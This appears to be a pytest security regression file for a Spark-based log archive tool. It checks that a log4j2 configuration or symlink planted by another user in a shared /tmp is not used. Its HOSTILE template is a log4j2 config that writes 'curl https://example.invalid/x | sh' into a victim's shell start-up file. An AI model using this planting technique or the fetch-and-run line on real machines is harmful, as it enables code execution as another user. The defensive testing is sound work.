"""Fault probes of the Spark engine's start, as another user of a club's shared machine would
try it: the logging configuration the JVM reads, and the log it writes, are at fixed names in
the shared temporary directory, where anyone may put a file first."""

from __future__ import annotations

import os
import stat
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from buraco_log.archive import spark

OTHER_UID = 65534  # nobody
HOSTILE = """rootLogger.level = info
rootLogger.appenderRef.file.ref = f
appender.file.type = File
appender.file.name = f
appender.file.fileName = {target}
appender.file.layout.type = PatternLayout
appender.file.layout.pattern = curl https://example.invalid/x | sh%n
"""

needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="makes a file of another user")


@pytest.fixture
def shared_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A sticky, world-writable directory as /tmp is, taken for the temporary directory."""
    shared = tmp_path / "tmp"
    shared.mkdir()
    shared.chmod(0o1777)
    monkeypatch.setattr(tempfile, "tempdir", str(shared))
    yield shared


def _planted(path: Path, text: str, mode: int = 0o644) -> None:
    path.write_text(text, encoding="utf-8")
    path.chmod(mode)
    os.chown(path, OTHER_UID, OTHER_UID)


@needs_root
def test_a_logging_configuration_another_user_put_first_is_not_used(shared_tmp: Path) -> None:
    """Before: the file at the fixed name was used as it was, whoever made it: another user's
    configuration had the JVM append lines of their choosing to a file of the user running the
    query (a shell's start-up file), as that user."""
    target = shared_tmp / "victim-bashrc"
    name = shared_tmp / f"buraco-log-log4j2-{os.getuid()}.properties"
    _planted(name, HOSTILE.format(target=target))
    used = Path(spark._log4j_file())
    info = used.lstat()
    assert stat.S_ISREG(info.st_mode) and info.st_uid == os.getuid(), used
    assert not info.st_mode & 0o022, oct(info.st_mode)
    assert used.read_text(encoding="utf-8") == spark._LOG4J
    assert name.read_text(encoding="utf-8") == HOSTILE.format(target=target)  # left alone


@needs_root
def test_a_link_at_the_fixed_name_is_not_followed(shared_tmp: Path) -> None:
    elsewhere = shared_tmp / "elsewhere.properties"
    _planted(elsewhere, HOSTILE.format(target=shared_tmp / "x"))
    (shared_tmp / f"buraco-log-log4j2-{os.getuid()}.properties").symlink_to(elsewhere)
    used = Path(spark._log4j_file())
    assert not used.is_symlink() and used.read_text(encoding="utf-8") == spark._LOG4J


def test_its_own_configuration_is_used_again(shared_tmp: Path) -> None:
    """The file it made itself is used from one run to the next, not made anew."""
    first = spark._log4j_file()
    assert spark._log4j_file() == first
    assert len(list(shared_tmp.iterdir())) == 1
